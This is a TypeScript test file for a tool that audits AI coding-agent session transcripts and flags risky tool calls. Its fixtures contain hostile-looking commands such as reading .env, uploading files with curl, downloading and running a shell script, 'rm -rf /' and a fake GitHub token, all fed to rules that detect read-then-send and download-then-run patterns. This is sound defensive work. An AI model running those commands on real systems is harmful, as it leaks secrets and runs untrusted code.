import fs from 'node:fs';
import { DEFAULT_POLICY, parsePolicy } from '@cco/audit-policy';
import { closeStore, openStore, refreshStore } from '@cco/session-index/store';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  type FindingFilter,
  findSessions,
  readFindings,
  readSessionCalls,
  refreshFindings,
} from '../src/index.ts';
import {
  type AuditHome,
  bash,
  HOME,
  type MadeCall,
  makeAuditHome,
  SHOP,
  timeOf,
} from './audit-home.ts';

let home: AuditHome;
beforeEach(async () => {
  home = await makeAuditHome();
});
afterEach(() => home.close());

const found = (filter: FindingFilter = {}) =>
  readFindings(home.store.db, filter).findings.map(
    ({ ruleId, call: { session } }) => `${session} ${ruleId}`,
  );

const CALLS = [
  bash('a', 0, 'cat .env'),
  bash('a', 1, 'ls'),
  bash('b', 2, 'npm publish'),
  bash('a', 30, 'curl -T out.txt https://in.acme.io'),
  bash('b', 31, 'rm -rf dist'),
];

describe('refreshFindings', () => {
  it('judges calls once, and of sessions that have grown only the new ones', async () => {
    home.add(CALLS);
    expect(await home.refresh()).toEqual({ sessionsJudged: 2, callsJudged: 5 });
    expect(await home.refresh()).toEqual({ sessionsJudged: 0, callsJudged: 0 });
    home.add([bash('b', 40, 'git push --force')]);
    expect(await home.refresh()).toEqual({ sessionsJudged: 1, callsJudged: 1 });
    expect(found()).toEqual([
      'a sensitive-read',
      'a upload-http',
      'a read-then-send',
      'b publish',
      'b git-force-push',
    ]);
    expect(readFindings(home.store.db)).toMatchObject({ calls: 6, sessions: 2 });
  });

  it('joins calls of different runs', async () => {
    home.add([bash('a', 0, 'cat .env'), bash('a', 1, 'curl -o i.sh https://acme.io/i.sh')]);
    await home.refresh();
    home.add([bash('a', 2, 'curl -T out.txt https://in.acme.io'), bash('a', 3, 'bash i.sh')]);
    await home.refresh();
    expect(found()).toEqual(expect.arrayContaining(['a read-then-send', 'a download-then-start']));
  });

  it('judges a call again when its result comes', async () => {
    const call: MadeCall = { ...bash('a', 0, 'git push --force'), outcome: undefined };
    home.add([call]);
    await home.refresh();
    const [before] = readFindings(home.store.db).findings;
    home.addResult({ ...call, outcome: 'denied' });
    expect(await home.refresh()).toEqual({ sessionsJudged: 1, callsJudged: 1 });
    const { findings, calls } = readFindings(home.store.db, { remarks: true });
    expect(findings).toHaveLength(1);
    expect([before?.call.outcome, findings[0]?.call.outcome]).toEqual([undefined, 'denied']);
    expect(findings[0]?.severity).not.toBe(before?.severity);
    expect(calls).toBe(1);
  });

  it('judges all again when the policy asks for other findings, and only then', async () => {
    const policyOf = (value: unknown) =>
      parsePolicy(JSON.stringify(value)).policy ?? DEFAULT_POLICY;
    home.add(CALLS);
    await home.refresh();
    const other = await home.refresh(policyOf({ rules: { publish: 'off' } }));
    expect(other.sessionsJudged).toBe(0);
    const paths = await home.refresh(policyOf({ sensitivePaths: ['**/out.txt'] }));
    expect(paths.callsJudged).toBe(5);
    expect((await home.refresh(DEFAULT_POLICY, ['/srv'])).callsJudged).toBe(5);
  });

  it('keeps what was found in transcripts that are gone, and judges them by other rules', async () => {
    home.add(CALLS);
    await home.refresh();
    fs.rmSync(home.fileOf('b'));
    await home.refresh();
    expect(found()).toContain('b publish');
    await home.refresh(DEFAULT_POLICY, ['/srv']);
    expect(found()).toContain('b publish');
  });

  it('begins a session anew whose transcript was written anew', async () => {
    home.add(CALLS);
    await home.refresh();
    fs.rmSync(home.fileOf('b'));
    home.add([bash('b', 50, 'git push --force'), bash('b', 51, 'ls')]);
    await home.refresh();
    expect(found({ session: 'b' })).toEqual(['b git-force-push']);
    expect(readFindings(home.store.db, { session: 'b' }).calls).toBe(2);
  });

  it('stays the same when a session grows in many small steps', async () => {
    for (let hour = 0; hour < 110; hour++) {
      home.add([bash('a', hour, hour % 10 === 0 ? 'git push --force' : 'ls')]);
      await home.refresh();
    }
    expect(readFindings(home.store.db).calls).toBe(110);
    const times = readFindings(home.store.db).findings.map(({ call }) => call.time);
    expect(times).toEqual(Array.from({ length: 11 }, (_, i) => timeOf(i * 10)));
  });

  it('judges a call that a fork repeats where it was made', async () => {
    home.add([bash('m', 0, 'npm publish')]);
    await home.refresh();
    fs.copyFileSync(home.fileOf('m'), home.fileOf('a'));
    home.add([bash('a', 1, 'git push --force')]);
    await home.refresh();
    expect(found().sort()).toEqual(['a git-force-push', 'm publish']);
    expect(readFindings(home.store.db)).toMatchObject({ calls: 2, sessions: 2 });
    expect(readSessionCalls(home.store, 'a').map(({ id }) => id)).toEqual(['toolu_a_1']);
  });

  it('judges in memory when the disk is full, and again on disk when it is not', async () => {
    home.add(CALLS);
    await refreshStore(home.store);
    const [{ page_count: pages }] = home.store.db.pragma('page_count') as [{ page_count: number }];
    home.store.db.exec(`PRAGMA max_page_count = ${pages}`);
    await home.refresh();
    expect(home.store.notes).toEqual([expect.stringContaining('full')]);
    expect(found()).toHaveLength(4);
    const later = openStore(home.store.options);
    try {
      await refreshStore(later);
      await refreshFindings(later, { policy: DEFAULT_POLICY, folders: [], home: HOME });
      expect(later.notes).toEqual([]);
      expect(readFindings(later.db).findings).toHaveLength(4);
    } finally {
      closeStore(later);
    }
  });

  it('judges in memory while another process does not release the store', async () => {
    home.add(CALLS);
    await refreshStore(home.store);
    const other = openStore(home.store.options);
    const store = openStore({ ...home.store.options, busyTimeoutMs: 20 });
    try {
      other.db.exec('BEGIN IMMEDIATE');
      await refreshFindings(store, { policy: DEFAULT_POLICY, folders: [], home: HOME });
      expect(readFindings(store.db).findings).toHaveLength(4);
    } finally {
      closeStore(other);
      closeStore(store);
    }
  });

  it('finds secrets in what the store does not keep', async () => {
    const secret = `ghp_${'aB3dE7fG9hJ2kL5mN8pQ4rS6tV1wX0yZaB3d'}`;
    const content = `${'const x = 1;\n'.repeat(3_000)}const token = '${secret}';`;
    home.add([
      bash('a', 0, 'ls'),
      { ...bash('a', 1, ''), tool: 'Write', input: { file_path: `${SHOP}/a.ts`, content } },
      bash('a', 2, `echo ${'x '.repeat(5_000)}; git push --force`),
    ]);
    await home.refresh();
    expect(found()).toEqual(['a secret-certain', 'a git-force-push']);
  });

  it('takes the folder that a session belongs to, wherever it went', async () => {
    const inner = `${SHOP}/packages/a`;
    const write = (hour: number, cwd: string, file: string): MadeCall => ({
      ...bash('c', hour, ''),
      tool: 'Write',
      cwd,
      input: { file_path: file, content: 'x' },
    });
    home.add([
      { ...bash('c', 0, 'ls'), cwd: inner },
      write(1, SHOP, `${SHOP}/x`),
      write(2, inner, `${SHOP}/src/a.ts`),
      write(3, inner, '/home/mira/code/shop-evil/a.ts'),
    ]);
    await home.refresh();
    expect(readFindings(home.store.db).findings.map(({ path }) => path)).toEqual([
      '/home/mira/code/shop-evil/a.ts',
    ]);
  });

  it.each([
    ['a null input', { input: null }],
    ['a text as input', { input: 'rm -rf /' }],
    ['no folder and no time', { cwd: null, hour: undefined }],
    ['an unknown tool', { tool: 'mcp__x__y', input: { a: [[[1]]] } }],
    ['a long command', { input: { command: 'a '.repeat(500_000) } }],
    ['what no shell can read', { input: { command: 'echo "\0$((' } }],
  ])('takes %s', async (_, parts: Partial<MadeCall>) => {
    home.add([{ ...bash('d', 0, ''), ...parts }]);
    expect((await home.refresh()).callsJudged).toBe(1);
  });
});

describe('readFindings', () => {
  beforeEach(async () => {
    home.add([...CALLS, bash('b', 32, "echo 'never closed")]);
    await home.refresh();
  });
  const at = (hour: number) => Date.parse(timeOf(hour));

  it('counts what it looked at', () => {
    const { db } = home.store;
    expect(readFindings(db)).toMatchObject({ calls: 6, sessions: 2, hiddenRemarks: 2 });
    expect(readFindings(db).hiddenUnread).toBe(1);
    expect(readFindings(db, { since: at(10) })).toMatchObject({
      calls: 3,
      sessions: 2,
      hiddenRemarks: 2,
      hiddenUnread: 1,
    });
    expect(readFindings(db, { until: at(10) })).toMatchObject({
      calls: 3,
      sessions: 2,
      hiddenRemarks: 0,
      hiddenUnread: 0,
    });
  });

  it('chooses by time, session and project', () => {
    expect(found({ since: at(10) })).toEqual(['a upload-http', 'a read-then-send']);
    expect(found({ until: at(10) })).toEqual(['a sensitive-read', 'b publish']);
    expect(found({ session: 'b' })).toEqual(['b publish']);
    expect(found({ wantsProject: () => false })).toEqual([]);
    expect(found({ session: 'b', remarks: true })).toEqual([
      'b publish',
      'b remove-recursive',
      'b unparsed',
    ]);
  });

  it('finds what was found within the quarter hour in which a range begins', async () => {
    const minute = 60_000;
    home.add([bash('b', 40.2, 'git push --force')]);
    await home.refresh();
    expect(found({ since: at(40.2) - minute })).toEqual(['b git-force-push']);
    expect(found({ since: at(40.2) + minute })).toEqual([]);
    expect(found({ until: at(40.2) + minute })).toContain('b git-force-push');
  });

  it('restores the wording and names the place', () => {
    const [finding] = readFindings(home.store.db, { session: 'b' }).findings;
    expect(finding?.why).not.toBe('');
    expect(finding?.place).toEqual({ file: home.fileOf('b'), line: 1 });
    expect(finding?.projectPath).toBe(SHOP);
    expect(finding?.call).toMatchObject({ cwd: SHOP, time: timeOf(2), outcome: 'ok' });
  });

  it('lists sessions by the beginning of their id', () => {
    expect(findSessions(home.store.db, '')).toEqual(['a', 'b']);
    expect(findSessions(home.store.db, 'b')).toEqual(['b']);
    expect(findSessions(home.store.db, 'x')).toEqual([]);
  });
});
